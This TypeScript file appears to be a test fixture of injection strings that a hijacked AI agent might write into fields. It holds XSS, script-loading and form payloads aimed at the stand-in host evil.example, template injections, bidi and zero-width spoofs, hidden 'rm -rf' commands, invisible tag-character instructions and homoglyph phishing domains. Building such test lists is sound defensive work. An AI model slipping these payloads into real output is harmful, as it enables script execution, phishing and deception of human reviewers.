/** What a hijacked agent may write into any field, in families; each is harmless only when it is shown as text. */
const CALL = 'window.__ran=1'
const EVIL = 'evil.example'

const HTML = [
  ...['img', 'svg', 'iframe', 'object', 'video', 'audio', 'input', 'details', 'body', 'math'],
  ...['table', 'marquee', 'embed', 'keygen', 'template', 'select', 'button', 'meter'],
].flatMap(tag => [
  `<${tag} src=//${EVIL}/${tag} onerror=${CALL}>`,
  `<${tag} onload="${CALL}" onfocus="${CALL}" autofocus>`,
  `"><${tag} onmouseover='${CALL}' style="position:fixed;inset:0">`,
])
const SCRIPTS = [
  `<script>${CALL}</script>`,
  `<script src="//${EVIL}/x.js"></script>`,
  `</textarea><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<style>@import "//${EVIL}/x.css";*{display:none}</style>`,
  `<link rel=stylesheet href=//${EVIL}/x.css>`,
  `<base href="//${EVIL}/">`,
  `<meta http-equiv=refresh content="0;url=//${EVIL}">`,
  `<form action="//${EVIL}"><button>Approve</button></form>`,
]
const TEMPLATES = ['{{', '${', '<%=', '#{', '[[', '{%'].flatMap(open => [
  `${open}constructor.constructor("${CALL}")()}}`,
  `${open} ${CALL} %>`,
])
const MARKDOWN = ['javascript', 'data', 'vbscript', 'http', 'file', 'blob'].flatMap(scheme => [
  `[pay here](${scheme}:${CALL})`,
  `![picture](${scheme}://${EVIL}/x.png)`,
  `<${scheme}://${EVIL}>`,
  `[a]: ${scheme}://${EVIL} "Approve"`,
])
const SVG = ['animate', 'set', 'foreignObject', 'use', 'image', 'a'].flatMap(tag => [
  `<svg><${tag} xlink:href="javascript:${CALL}" attributeName=href></${tag}></svg>`,
  `<svg><${tag} onbegin=${CALL} href="//${EVIL}/x.svg#x"/></svg>`,
])
const BIDI = [
  '\u202A',
  '\u202B',
  '\u202C',
  '\u202D',
  '\u202E',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069',
  '\u200E',
  '\u200F',
  '\u061C',
].flatMap(mark => [`invoice${mark}fdp.exe`, `${mark}approve${mark} all`])
const ZERO_WIDTH = [
  '\u200B',
  '\u200C',
  '\u200D',
  '\u2060',
  '\uFEFF',
  '\u00AD',
  '\u034F',
  '\u180E',
  '\u3164',
  '\u2800',
  '\u115F',
  '\uFFA0',
].flatMap(mark => [`ad${mark}min`, `${mark}${mark}rm -rf${mark}`])
const TAGS = ['ignore', 'approve', 'delete all', 'send', 'pay', 'rm -rf', 'sudo', 'hidden'].map(
  word =>
    `status ok${[...word].map(letter => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('')}`,
)
const ANSI = [
  '[2J',
  '[31m',
  '[1A',
  ']8;;http://evil.example\u0007',
  ']0;title\u0007',
  '[8m',
  'c',
  '[?25l',
].flatMap(code => [`\u001B${code}done`, `ok\u009B${code}`])
const HOSTS = [
  'p\u0430ypal',
  'g\u043E\u043Egle',
  '\u0430pple',
  'micros\u03BFft',
  'githu\u042C',
  'xn--80ak6aa92e',
  'аррӏе',
  'exаmple',
].flatMap(host => [`https://${host}.com/login`, `boss@${host}.com`])
const CONTROL = ['\u0000', '\u0008', '\u000B', '\u001F', '\u007F', '\u0085', '\u2028', '\u2029'].map(
  mark => `before${mark}after`,
)

/** At least two hundred; none is longer than a line. */
export const PAYLOADS: readonly string[] = [
  ...[HTML, SCRIPTS, TEMPLATES, MARKDOWN, SVG, BIDI, ZERO_WIDTH, TAGS, ANSI, HOSTS, CONTROL].flat(),
]

/** Over-long ones, with the payload at their end where a glance does not reach. */
export const LONG_PAYLOADS: readonly string[] = [
  `${'harmless '.repeat(120)}<script>${CALL}</script>`,
  `${'a'.repeat(4000)}\u202Efdp.exe`,
  `${'\n'.repeat(900)}rm -rf /`,
  `${'word \u200B'.repeat(300)}`,
]
